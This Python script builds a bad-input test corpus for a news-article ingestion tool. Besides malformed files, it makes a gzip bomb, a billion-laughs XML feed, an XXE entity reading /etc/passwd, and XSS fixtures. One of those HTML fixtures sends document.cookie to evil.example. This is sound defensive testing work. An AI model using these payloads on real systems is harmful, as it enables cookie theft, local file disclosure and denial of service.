"""The bad-input corpus: small files committed here, and big ones generated at test time.

Two groups:

* ``write_committed(outdir)`` rewrites the small, deterministic files that live in
  ``tests/data/bad/`` (binary, empty, truncated, wrong encodings, malformed feeds, broken JSONL,
  hostile content). They are committed; this function documents how each was made and lets anyone
  rebuild them byte for byte.
* ``make_generated(outdir, ...)`` writes the big ones into a directory you choose (a pytest
  ``tmp_path``), because they are too large to commit: a 50 MB page, HTML nested 100,000 deep
  (closed and unclosed) and a single-member gzip that inflates to more than 1 GB from about 1 MB.

    .venv/bin/python tests/data/bad/make_bad.py OUTDIR            # full-size generated files
    .venv/bin/python tests/data/bad/make_bad.py OUTDIR --small    # the same shapes, tiny sizes
    .venv/bin/python tests/data/bad/make_bad.py --committed       # rebuild the committed files here

All text is fictional and written for samestory.
"""

from __future__ import annotations

import argparse
import gzip
import json
import random
import struct
import zlib
from pathlib import Path

HERE = Path(__file__).resolve().parent
GOOD = HERE.parent / "good"

MB = 1024 * 1024

# Full sizes the issue asks for; tests may pass smaller ones.
HUGE_PAGE_MB = 50
NESTING_DEPTH = 100_000
BOMB_INFLATED_MB = 1100  # > 1 GB (1100 MiB = 1.15 GB)

ARTICLE_PARAGRAPH = (
    "The council met on Tuesday evening to discuss the repairs to the harbour wall, which was damaged "
    "in the storms of last winter. Engineers said the work would take at least four months."
)


# --------------------------------------------------------------------------------------------
# Generated at test time (too big to commit)
# --------------------------------------------------------------------------------------------


def make_huge_page(outdir: Path, size_mb: float = HUGE_PAGE_MB) -> Path:
    """An ordinary-looking article page padded with paragraphs to ``size_mb`` MiB."""
    path = Path(outdir) / "huge-page.html"
    target = int(size_mb * MB)
    head = (
        "<!DOCTYPE html><html><head><meta charset='utf-8'><title>A very long page</title></head>"
        "<body><article><h1>A very long page</h1>\n"
    ).encode()
    tail = b"</article></body></html>\n"
    with open(path, "wb") as fh:
        fh.write(head)
        written = len(head)
        n = 0
        while written < target - len(tail):
            para = f"<p>{n}. {ARTICLE_PARAGRAPH}</p>\n".encode()
            fh.write(para)
            written += len(para)
            n += 1
        fh.write(tail)
    return path


def make_deep_nesting(outdir: Path, depth: int = NESTING_DEPTH) -> list[Path]:
    """Two pages nested ``depth`` levels deep: one with every tag closed, one never closed."""
    outdir = Path(outdir)
    text = f"<p>{ARTICLE_PARAGRAPH}</p>"
    closed = outdir / "deep-nesting.html"
    closed.write_text(
        "<!DOCTYPE html><html><head><title>Deep</title></head><body>"
        + "<div>" * depth + text + "</div>" * depth + "</body></html>\n",
        encoding="utf-8",
    )
    unclosed = outdir / "deep-nesting-unclosed.html"
    unclosed.write_text(
        "<!DOCTYPE html><html><head><title>Deep, unclosed</title></head><body>"
        + "<div><span>" * depth + text + "\n",
        encoding="utf-8",
    )
    return [closed, unclosed]


def make_gzip_bomb(outdir: Path, inflated_mb: int = BOMB_INFLATED_MB) -> Path:
    """One gzip member that inflates to ``inflated_mb`` MiB of zeros from about a thousandth of that.

    Built by repeating one full-flushed deflate block (identical bytes each time, because a full
    flush resets the compressor's dictionary), so it takes well under a second instead of
    compressing a gigabyte. A single member, so a reader cannot dodge it by reading only the first.
    """
    path = Path(outdir) / "bomb.html.gz"
    chunk = bytes(MB)
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = compressor.compress(chunk) + compressor.flush(zlib.Z_FULL_FLUSH)
    again = compressor.compress(chunk) + compressor.flush(zlib.Z_FULL_FLUSH)
    if again != block:  # the trick relies on this; fail loudly rather than write a corrupt file
        raise RuntimeError("zlib did not repeat the full-flushed block; cannot build the bomb cheaply")
    final = compressor.flush(zlib.Z_FINISH)
    crc = 0
    for _ in range(inflated_mb):
        crc = zlib.crc32(chunk, crc)
    header = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff"  # gzip, deflate, no name, mtime 0
    with open(path, "wb") as fh:
        fh.write(header)
        for _ in range(inflated_mb):
            fh.write(block)
        fh.write(final)
        fh.write(struct.pack("<II", crc & 0xFFFFFFFF, (inflated_mb * MB) & 0xFFFFFFFF))
    return path


def make_generated(
    outdir: Path,
    *,
    size_mb: float = HUGE_PAGE_MB,
    depth: int = NESTING_DEPTH,
    bomb_mb: int = BOMB_INFLATED_MB,
) -> dict[str, Path]:
    """Write every generated file into ``outdir``; return ``{file name: path}``."""
    outdir = Path(outdir)
    outdir.mkdir(parents=True, exist_ok=True)
    paths = [make_huge_page(outdir, size_mb), *make_deep_nesting(outdir, depth), make_gzip_bomb(outdir, bomb_mb)]
    return {p.name: p for p in paths}


# --------------------------------------------------------------------------------------------
# Committed (small, deterministic)
# --------------------------------------------------------------------------------------------

ENCODED_TITLE = "Café owner’s “hidden” garden wins prize"
ENCODED_BODY = (
    "The owner of the Café Rosé on Tamsin Lane was named winner of the town’s garden prize on Sunday.\n\n"
    "Judges praised the “hidden” courtyard behind the kitchen, where she grows herbs for the menu.\n\n"
    "She said: “I’m delighted — it’s been ten years’ work.”\n"
)
LATIN1_TEXT = (
    "Smörgåsbord stall wins the Ashby food fair\n\n"
    "A stall selling smörgåsbord and crème brûlée won first prize at the Ashby food fair, "
    "taking home £250 and a trophy.\n\n"
    "The owner, Zoë Fränkel, said the secret was butter at 4°C and patience.\n"
)
SMALL_PAGE = (
    "<!DOCTYPE html><html><head><meta charset='utf-8'><title>Harbour wall repairs</title></head><body>"
    "<nav>Home | News</nav><article><h1>Harbour wall repairs to take four months</h1>"
    + "".join(f"<p>{ARTICLE_PARAGRAPH} ({i})</p>" for i in range(20))
    + "</article></body></html>\n"
)


def _jsonl(rows: list) -> bytes:
    """Each row is either raw text (written as is) or an object dumped as JSON."""
    lines = [r if isinstance(r, str) else json.dumps(r, ensure_ascii=False) for r in rows]
    return ("\n".join(lines) + "\n").encode("utf-8")


VALID_FIRST = {
    "id": "valid-first", "url": "https://www.valegazette.example/local/ashby-bridge-reopens", "outlet": "Vale Gazette",
    "title": "Ashby bridge reopens to traffic", "published": "2025-02-03T09:00:00+01:00", "language": "en",
    "text": "The bridge over the Tamsin at Ashby reopened to traffic on Monday after six weeks of repairs.\n\n"
            "Buses returned to their usual route in the afternoon.",
}
VALID_LAST = {
    "id": "valid-last", "url": "https://eveningstar.example/city/northgate-market-hall", "outlet": "Northgate Evening Star",
    "title": "Northgate market hall gets a new roof", "published": "2025-02-10T12:00:00Z",
    "text": "Work to replace the leaking roof of Northgate's Victorian market hall will start in May.\n\n"
            "Traders will move to a temporary hall on Station Square during the work.",
}

BROKEN_JSONL_ROWS = [
    VALID_FIRST,                                                                   # 1 ok
    '{"id": "truncated", "title": "A line cut short", "text": "This line stops in the mid',  # 2 bad JSON
    "",                                                                            # 3 blank: skip quietly
    ["an", "array", "not", "an", "object"],                                        # 4 not an object
    {"id": "title-is-number", "title": 12345, "text": "The title of this record is a number.",
     "outlet": "Vale Gazette", "published": "2025-02-04T09:00:00+01:00"},         # 5 wrong type
    {"id": "text-is-list", "title": "Text given as a list", "text": ["para one", "para two"],
     "outlet": "Vale Gazette", "published": "2025-02-04T09:00:00+01:00"},         # 6 wrong type
    {"id": "published-not-a-date", "title": "A record whose date is not a date",
     "text": "The published field of this record says last Tuesday.", "outlet": "Vale Gazette",
     "published": "last Tuesday"},                                                 # 7 not a date
    {"id": "no-text", "title": "A record with neither text nor html", "outlet": "Vale Gazette"},  # 8 no body: a headline-only article
    {"id": "text-is-null", "title": "A record whose text is null", "text": None},  # 9 null body: a headline-only article
    '"just a string"',                                                             # 10 a JSON string, not an object
    '{"id": "trailing-garbage", "title": "Valid object, then junk", "text": "Body."} }}',  # 11 bad JSON
    VALID_LAST,                                                                    # 12 ok
]

RSS_UNCLOSED = """<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0">
  <channel>
    <title>Harbour Courier – News</title>
    <link>https://www.harbourcourier.example/news</link>
    <item>
      <title>Harbour wall repairs to take four months
      <link>https://www.harbourcourier.example/news/harbour-wall</link>
      <description>Engineers said the work would take at least four months.
    <item>
      <title>Ferry timetable changes from April</title>
"""

RSS_NO_ITEMS = """<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0">
  <channel>
    <title>Harbour Courier – Empty section</title>
    <link>https://www.harbourcourier.example/empty</link>
    <description>A well-formed feed with no items at all.</description>
  </channel>
</rss>
"""

RSS_WRONG_ROOT = """<?xml version="1.0" encoding="UTF-8"?>
<catalog>
  <item>
    <title>Ferry timetable changes from April</title>
    <link>https://www.harbourcourier.example/news/ferry-timetable</link>
    <description>Not a feed: the root element is catalog, not rss.</description>
  </item>
</catalog>
"""

RSS_IS_HTML = """<!DOCTYPE html>
<html><head><title>404 Not Found</title></head>
<body><h1>Not Found</h1><p>The feed you asked for has moved.</p></body></html>
"""

RSS_BILLION_LAUGHS = """<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE rss [
  <!ENTITY a "laugh">
  <!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">
  <!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">
  <!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">
  <!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;">
  <!ENTITY f "&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;">
  <!ENTITY g "&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;">
  <!ENTITY h "&g;&g;&g;&g;&g;&g;&g;&g;&g;&g;">
  <!ENTITY i "&h;&h;&h;&h;&h;&h;&h;&h;&h;&h;">
]>
<rss version="2.0"><channel><title>Laughs</title><link>https://laughs.example/</link>
<item><title>Entity expansion</title><link>https://laughs.example/1</link><description>&i;</description></item>
</channel></rss>
"""

RSS_EXTERNAL_ENTITY = """<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE rss [ <!ENTITY secret SYSTEM "file:///etc/passwd"> ]>
<rss version="2.0"><channel><title>External entity</title><link>https://xxe.example/</link>
<item><title>Reads a local file if entities are resolved</title><link>https://xxe.example/1</link>
<description>before &secret; after</description></item>
</channel></rss>
"""

ATOM_UNCLOSED = """<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom">
  <title>Meridian Post – World</title>
  <id>tag:meridianpost.example,2025:world</id>
  <updated>2025-03-11T19:45:00+01:00</updated>
  <entry>
    <title>Lowmarsh approves tram line
    <link href="https://www.meridianpost.example/uk/2025/mar/07/lowmarsh-council-approves-tram-line"/>
    <id>tag:meridianpost.example,2025-03-07:lowmarsh-tram</id>
    <summary>Councillors voted in favour.
  <entry>
"""

ATOM_NO_ENTRIES = """<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom">
  <title>Meridian Post – Nothing yet</title>
  <id>tag:meridianpost.example,2025:empty</id>
  <updated>2025-03-11T19:45:00+01:00</updated>
  <link rel="self" href="https://www.meridianpost.example/empty/atom.xml"/>
</feed>
"""

ATOM_WRONG_ROOT = """<?xml version="1.0" encoding="utf-8"?>
<entries xmlns="http://www.w3.org/2005/Atom">
  <entry>
    <title>An entry outside any feed</title>
    <link href="https://www.meridianpost.example/x"/>
    <id>tag:meridianpost.example,2025:x</id>
    <updated>2025-03-11T19:45:00+01:00</updated>
    <summary>The root element is entries, not feed.</summary>
  </entry>
</entries>
"""

HOSTILE_TEXT = (
    "Council <script>alert(\"samestory\")</script> approves new harbour lights\n\n"
    "The harbour lights <img src=x onerror=alert(1)> will be replaced in June, the council said.\n\n"
    "A councillor said: \"<a href=\"javascript:alert(2)\">click here</a>\" was written on the planning notice.\n\n"
    "{{ 7*7 }} and ${7*7} and </textarea><svg onload=alert(3)> are strings, never code.\n"
)

HOSTILE_HTML = """<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>Harbour lights &lt;script&gt;alert(1)&lt;/script&gt;</title>
<meta property="og:title" content="Harbour lights &quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;">
<script>document.location = "https://evil.example/?c=" + document.cookie;</script>
</head><body>
<article><h1>Harbour lights to be replaced in June</h1>
<p>The harbour lights will be replaced in June, the council said on Monday. <img src="x" onerror="alert(1)"></p>
<p>The work will cost 120,000 crowns. &lt;script&gt;alert("escaped text, not a tag")&lt;/script&gt;</p>
<p><a href="javascript:alert(2)">Read the council report</a> on the harbour office noticeboard.</p>
<iframe src="https://evil.example/frame"></iframe>
</article>
<script>fetch("https://evil.example/beacon");</script>
</body></html>
"""

NO_TEXT_HTML = """<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>Loading…</title>
<script src="/app.js"></script></head>
<body><nav><a href="/">Home</a> <a href="/news">News</a></nav><div id="root"></div>
<noscript>Please enable JavaScript to read this page.</noscript></body></html>
"""


# One bad record costs only itself (issue 20): each file below holds good records beside the bad one.
HARBOUR_TEXT = ("The harbour office said on Monday that the repairs to the east pier will start in April and "
                "take about ten weeks.\n\nFerries will use the west pier while the work goes on.")


def _record(rid: str, title: str, text: str = HARBOUR_TEXT) -> dict:
    return {"id": rid, "outlet": "Harbour Courier", "title": title, "published": "2025-03-03T08:00:00Z", "text": text}


def _integrity_files() -> dict[str, bytes]:
    good = json.dumps(_record("surrogate-good", "East pier repairs start in April"))
    surrogate = (good + "\n"
                 # a lone surrogate in the title and text: repaired (U+FFFD), the record kept
                 + '{"id": "surrogate-repaired", "outlet": "Harbour Courier", "title": "Pier \\ud800 works", '
                   '"published": "2025-03-03T09:00:00Z", "text": "The west pier \\ud800 reopens on Friday after '
                   'a week of repairs to its lights, the harbour office said."}\n'
                 # ... and in the id, which must stay exact: refused
                 + '{"id": "surrogate-\\ud800-id", "title": "Id with a lone surrogate", "text": "Body text."}\n')
    nul = (json.dumps(_record("nul-before", "Ferry timetable changes in April")).encode() + b"\n"
           + b'{"id": "nul-line", "title": "A line with a NUL \x00 byte", "text": "Body."}\n'
           + json.dumps(_record("nul-after", "New lights for the west pier")).encode() + b"\n")
    utf16_jsonl = "\n".join(json.dumps(_record(f"utf16-{i}", t), ensure_ascii=False)
                            for i, t in enumerate(["Café owner opens on the east pier", "Pier café wins a prize"])) + "\n"
    conflicting = "\n".join(json.dumps(r) for r in [
        _record("conflict-1", "East pier repairs start in April"),
        # the same id, another text: kept aside as a conflict, never counted as a duplicate
        _record("conflict-1", "East pier repairs start in April", HARBOUR_TEXT.replace("ten weeks", "six months")),
    ]) + "\n"
    return {
        "lone-surrogate.jsonl": surrogate.encode("ascii"),
        "nul-line.jsonl": nul,
        "utf16le-no-bom.txt": f"{ENCODED_TITLE}\n\n{ENCODED_BODY}".encode("utf-16-le"),
        "utf16le-no-bom.jsonl": utf16_jsonl.encode("utf-16-le"),
        "conflicting-ids.jsonl": conflicting.encode("utf-8"),
    }


def make_special(outdir: Path) -> dict[str, Path]:
    """Files git cannot hold, made at test time: a FIFO and a UNIX socket named like articles (never
    opened: reading a FIFO blocks until someone writes), and an article whose name is not valid UTF-8."""
    import os
    import socket

    outdir = Path(outdir)
    outdir.mkdir(parents=True, exist_ok=True)
    fifo = outdir / "fifo.txt"
    os.mkfifo(fifo)
    sock_path = outdir / "socket.txt"
    sock = socket.socket(socket.AF_UNIX)
    sock.bind(str(sock_path))
    sock.close()  # the socket file stays
    bad_name = outdir / os.fsdecode(b"bad-name-\xff.txt")
    bad_name.write_text(f"{ENCODED_TITLE}\n\n{ENCODED_BODY}", encoding="utf-8")
    return {"fifo.txt": fifo, "socket.txt": sock_path, "bad-name": bad_name}


def _committed_files() -> dict[str, bytes]:
    sample_warc = (GOOD / "sample.warc.gz").read_bytes()
    warc_plain = gzip.decompress(sample_warc)  # all members
    page_gz = gzip.compress(SMALL_PAGE.encode("utf-8"), mtime=0)
    cp1252_body = f"{ENCODED_TITLE}\n\n{ENCODED_BODY}"
    mixed = (
        ENCODED_TITLE.encode("utf-8") + b"\n\n"
        + "The first paragraph is UTF-8: the café’s owner smiled.\n\n".encode("utf-8")
        + "The second paragraph is cp1252: the café’s “hidden” garden.\n\n".encode("cp1252")
        + "The third is UTF-8 again — naïve, déjà vu.\n".encode("utf-8")
    )
    cp1252_html = (
        "<!DOCTYPE html><html><head><meta charset=\"utf-8\"><title>" + ENCODED_TITLE + "</title></head>"
        "<body><article><h1>" + ENCODED_TITLE + "</h1>"
        + "".join(f"<p>{p}</p>" for p in ENCODED_BODY.split("\n\n") if p.strip())
        + "</article></body></html>\n"
    )
    return {
        "binary.txt": random.Random(1234).randbytes(4096),
        "binary.html": random.Random(5678).randbytes(4096),
        "not-gzip.warc.gz": random.Random(91011).randbytes(2048),
        "empty.txt": b"",
        "empty.html": b"",
        "empty.jsonl": b"",
        "empty.warc.gz": b"",
        "whitespace-only.txt": b"  \n\n\t\n   \n",
        "title-only.txt": "Headline with no body\n".encode("utf-8"),
        "truncated.warc.gz": sample_warc[: len(sample_warc) // 2],
        "truncated.warc": warc_plain[: int(len(warc_plain) * 0.6)],
        "truncated.html.gz": page_gz[: len(page_gz) // 2],
        "nested-5000.html": (
            "<!DOCTYPE html><html><head><title>Nested</title></head><body>"
            + "<div>" * 5000 + f"<p>{ARTICLE_PARAGRAPH}</p>" + "</div>" * 5000 + "</body></html>\n"
        ).encode("utf-8"),
        "cp1252.txt": cp1252_body.encode("cp1252"),
        "latin1.txt": LATIN1_TEXT.encode("latin-1"),
        "utf8-bom.txt": b"\xef\xbb\xbf" + cp1252_body.encode("utf-8"),
        "utf16-bom.txt": cp1252_body.encode("utf-16"),  # Python writes a BOM for "utf-16"
        "mixed-encoding.txt": mixed,
        "cp1252-declared-utf8.html": cp1252_html.encode("cp1252"),
        "rss-unclosed.xml": RSS_UNCLOSED.encode("utf-8"),
        "rss-no-items.xml": RSS_NO_ITEMS.encode("utf-8"),
        "rss-wrong-root.xml": RSS_WRONG_ROOT.encode("utf-8"),
        "rss-is-html.xml": RSS_IS_HTML.encode("utf-8"),
        "rss-billion-laughs.xml": RSS_BILLION_LAUGHS.encode("utf-8"),
        "rss-external-entity.xml": RSS_EXTERNAL_ENTITY.encode("utf-8"),
        "atom-unclosed.xml": ATOM_UNCLOSED.encode("utf-8"),
        "atom-no-entries.xml": ATOM_NO_ENTRIES.encode("utf-8"),
        "atom-wrong-root.xml": ATOM_WRONG_ROOT.encode("utf-8"),
        "broken.jsonl": _jsonl(BROKEN_JSONL_ROWS),
        "no-valid-lines.jsonl": _jsonl(['{"id": ', "[1, 2, 3]", {"id": "no-body", "outlet": "Nothing"}, "null"]),  # no body and no title
        "hostile.txt": HOSTILE_TEXT.encode("utf-8"),
        "hostile.html": HOSTILE_HTML.encode("utf-8"),
        "no-text.html": NO_TEXT_HTML.encode("utf-8"),
        **_integrity_files(),
    }


def write_committed(outdir: Path = HERE) -> list[Path]:
    outdir = Path(outdir)
    outdir.mkdir(parents=True, exist_ok=True)
    written = []
    for name, data in _committed_files().items():
        path = outdir / name
        path.write_bytes(data)
        written.append(path)
    return written


def main(argv: list[str] | None = None) -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("outdir", nargs="?", type=Path, help="where to write the generated (big) files")
    parser.add_argument("--small", action="store_true", help="tiny sizes: 1 MB page, depth 1000, 16 MB bomb")
    parser.add_argument("--committed", action="store_true", help="rebuild the small committed files in tests/data/bad")
    args = parser.parse_args(argv)
    if args.committed:
        for path in write_committed():
            print(path)
    if args.outdir:
        sizes = dict(size_mb=1, depth=1000, bomb_mb=16) if args.small else {}
        for path in make_generated(args.outdir, **sizes).values():
            print(f"{path}  {path.stat().st_size:,} bytes")
    if not (args.committed or args.outdir):
        parser.error("give OUTDIR and/or --committed")


if __name__ == "__main__":
    main()
